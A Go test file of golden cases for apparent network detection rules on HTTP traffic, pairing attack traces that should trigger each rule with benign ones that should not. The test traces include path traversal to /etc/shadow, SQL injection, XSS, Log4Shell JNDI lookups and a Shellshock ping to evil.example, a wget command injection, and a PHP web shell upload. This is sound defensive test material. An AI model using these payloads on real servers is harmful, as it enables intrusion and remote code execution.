package rules

import (
	"slices"
	"strings"
)

// httpGoldens are the tests of the rules about HTTP. A request is packet 4 of
// its trace.
func httpGoldens() []golden {
	return slices.Concat(targetGoldens(), httpHeaderGoldens(), methodGoldens(), callbackGoldens())
}

// request is a trace with a request of a browser, behind a handshake.
func request(port uint16, line string, headers ...string) func(*trace) {
	return func(t *trace) {
		text := line + "\r\nHost: www.example.org\r\n"
		for _, h := range headers {
			text += h + "\r\n"
		}
		t.dial(client, server, 50000, port).request(text + "\r\n")
	}
}

// target is a trace that asks for a target.
func target(path string) func(*trace) {
	return request(80, "GET "+path+" HTTP/1.1", "User-Agent: Mozilla/5.0", "Accept: */*")
}

// agent is a trace with a user agent.
func agent(name string) func(*trace) { return request(80, "GET / HTTP/1.1", "User-Agent: "+name) }

// targetGoldens are the tests of the rules that look at the target.
func targetGoldens() []golden {
	return []golden{
		only("1122.http_double_encoding", "dots", 4, target("/a/%252e%252e/b")),
		none("1122.http_double_encoding", "a percent sign", target("/search?q=25%25+off%2e")),
		only("1123.http_path_traversal", "plain", 4, target("/cgi/../../../etc/shadow")),
		only("1123.http_path_traversal", "encoded", 4, target("/icons/%2e%2E/%2e%2e/x")),
		none("1123.http_path_traversal", "one step", target("/a/../b/c..d")),
		only("1124.http_sql_injection", "union", 4, target("/item?id=-1+UNION+ALL+SELECT+1,2")),
		only("1124.http_sql_injection", "always true", 4, target("/login?user=a%27%20OR%201=1")),
		none("1124.http_sql_injection", "words", target("/search?q=student+union+selection+or+1")),
		only("1125.http_cross_site_scripting", "encoded", 4, target("/find?q=%3CScript%3Ealert(1)")),
		none("1125.http_cross_site_scripting", "a word", target("/find?q=javascript+script+onload")),
		only("1126.log4shell_uri", "plain", 4, target("/?x=${jndi:ldap://evil.example/a}")),
		only("1126.log4shell_uri", "hidden", 4, target("/?x=${${::-j}ndi:rmi://evil.example/a}")),
		none("1126.log4shell_uri", "a template", target("/?x=${user.name}&y=jndi:")),
		only("1132.http_overlong_uri", "5000 bytes", 7, target("/"+strings.Repeat("a", 5000))),
		none("1132.http_overlong_uri", "4000 bytes", target("/"+strings.Repeat("a", 4000))),
		only("1137.http_command_injection", "wget", 4, target("/setup.cgi?cmd=a%3Bwget+http://evil.example/b")),
		only("1137.http_command_injection", "users", 4, target("/show?file=/etc/passwd")),
		none("1137.http_command_injection", "a page", target("/manual/wget?topic=passwd")),
	}
}

// httpHeaderGoldens are the tests of the rules that look at headers and body.
func httpHeaderGoldens() []golden {
	upload := func(name, body string) func(*trace) {
		return request(80, "POST /upload HTTP/1.1", "Content-Type: multipart/form-data; boundary=x", "Content-Length: 200",
			"\r\n--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\""+name+"\"\r\n\r\n"+body+"\r\n--x--")
	}
	return []golden{
		only("1127.log4shell_header", "user agent", 4, agent("${jndi:dns://evil.example/a}")),
		only("1127.log4shell_header", "any header", 4, request(80, "GET / HTTP/1.1", "X-Api-Version: ${JNDI:ldap://evil.example/a}")),
		none("1127.log4shell_header", "no look-up", agent("jndi/1.0 (${version})")),
		only("1129.shellshock", "user agent", 4, agent("() { :;}; /bin/ping evil.example")),
		none("1129.shellshock", "a browser", agent("Mozilla/5.0 (X11; Linux) {}")),
		only("1130.http_scanner_user_agent", "nikto", 4, agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)")),
		none("1130.http_scanner_user_agent", "a browser", agent("Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0")),
		only("1131.http_overlong_user_agent", "600 bytes", 4, agent(strings.Repeat("A", 600))),
		none("1131.http_overlong_user_agent", "512 bytes", agent(strings.Repeat("A", 512))),
		only("1133.http_webshell_upload", "by name", 4, upload("shell.PHP", "GIF89a")),
		only("1133.http_webshell_upload", "by content", 4, upload("cat.gif", "GIF89a<?php system($_GET[1]);")),
		none("1133.http_webshell_upload", "a picture", upload("php.jpg", "GIF89a")),
		only("1136.http_request_smuggling", "both lengths", 4, request(80, "POST / HTTP/1.1", "Content-Length: 6", "Transfer-Encoding: chunked", "\r\n0")),
		none("1136.http_request_smuggling", "one length", request(80, "POST / HTTP/1.1", "Transfer-Encoding: chunked", "\r\n0")),
	}
}

// methodGoldens are the tests of the rules that look at port, version and
// method.
func methodGoldens() []golden {
	return []golden{
		only("1120.http_on_foreign_port", "DNS over TCP", 4, request(53, "GET / HTTP/1.1")),
		none("1120.http_on_foreign_port", "usual", request(80, "GET / HTTP/1.1")),
		none("1120.http_on_foreign_port", "high", request(8000, "GET / HTTP/1.1")),
		only("1121.http_bad_version", "1.8", 4, request(80, "GET /index.html HTTP/1.8")),
		none("1121.http_bad_version", "1.0", request(80, "GET /index.html HTTP/1.0")),
		only("1134.http_trace_method", "TRACE", 4, request(80, "TRACE / HTTP/1.1")),
		none("1134.http_trace_method", "OPTIONS", request(80, "OPTIONS /TRACE HTTP/1.1")),
		only("1135.http_connect_foreign_port", "mail", 4, request(8080, "CONNECT mail.example.org:25 HTTP/1.1")),
		none("1135.http_connect_foreign_port", "TLS", request(8080, "CONNECT www.example.org:443 HTTP/1.1")),
	}
}

// callbackGoldens are the tests of the rule that follows a look-up.
func callbackGoldens() []golden {
	attempt := func(callback func(*trace)) func(*trace) {
		return func(t *trace) {
			agent("${jndi:ldap://evil.example:1389/a}")(t)
			callback(t)
		}
	}
	return []golden{
		verdict("1128.log4shell_callback", "the server calls", "1128 detected 1@4 2@6", attempt(func(t *trace) { t.dial(server, callee, 40000, 1389) })),
		none("1128.log4shell_callback", "another host calls", attempt(func(t *trace) { t.dial(client, callee, 40000, 1389) })),
		none("1128.log4shell_callback", "the server calls for a page", attempt(func(t *trace) { t.dial(server, callee, 40000, 443) })),
	}
}
